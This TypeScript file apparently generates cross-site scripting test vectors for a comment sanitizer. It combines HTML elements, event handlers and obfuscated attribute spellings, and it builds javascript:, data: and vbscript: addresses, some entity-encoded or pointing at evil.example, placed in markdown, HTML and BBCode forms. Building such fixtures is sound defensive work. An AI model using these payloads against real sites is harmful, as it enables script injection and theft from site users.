// XSS vectors for comments: every one runs where nothing stops it.
import { evil, run } from './attempt.ts'
import { clobbering, markup, styles } from './elements.ts'
import { markdown, parsing } from './parser-differences.ts'

/** No two are the same. */
export function xssVectors(): string[] {
  return [...new Set([...handlers(), ...addresses(), ...markup, ...parsing, ...markdown, ...styles, ...clobbering])]
}

const elements = ['img', 'svg', 'a', 'b', 'p', 'details', 'video', 'input', 'body', 'custom-element']
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'ontoggle',
  'onanimationstart',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onscrollend',
]

/** Every element with every event, each pair spelled in one of the ways in which attributes can be. */
function handlers(): string[] {
  const spellings = [
    (event: string) => ` src=x ${event}=${run}`,
    (event: string) => `/src=x/${event}="${run}"`,
    (event: string) => `\n${event.toUpperCase()}\t=\t'${run}' autofocus tabindex=1`,
    (event: string) => ` ${event}&#61;${run}`,
    (event: string) => ` x="\`" ${event}=\`${run}\``,
    (event: string) => ` title="a>b" ${event}=${run} open`,
    (event: string) => ` \u0000${event}=${run}`,
  ]
  return elements.flatMap((element, row) =>
    events.map((event, column) => `<${element}${spellings[(row + column) % spellings.length]?.(event)}>words`),
  )
}

const runningAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript:${evil}/%0A${run}`,
  `javascript://evil.example/%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=`,
  `blob:${evil}/1`,
  `filesystem:${evil}/1`,
  `view-source:javascript:${run}`,
  `${evil}/x.svg`,
  `//evil.example/x.png`,
  `\\\\evil.example\\x.png`,
  `${evil}/" onerror="${run}`,
  `${evil}/' onmouseover='${run}`,
  `${evil}/"><script>${run}</script>`,
  `${evil}/\u2028onload=${run}`,
  `https://a@evil.example:80/x.png?"><img src=x onerror=${run}>`,
]

/** Every such address wherever an address can stand. */
function addresses(): string[] {
  const places = [
    (address: string) => address,
    (address: string) => `[words](${address})`,
    (address: string) => `![words](${address})`,
    (address: string) => `<a href="${address}">words</a>`,
    (address: string) => `<img src="${address}">`,
    (address: string) => `[img]${address}[/img]`,
    (address: string) => `<${address}>`,
  ]
  return places.flatMap((place) => runningAddresses.map(place))
}
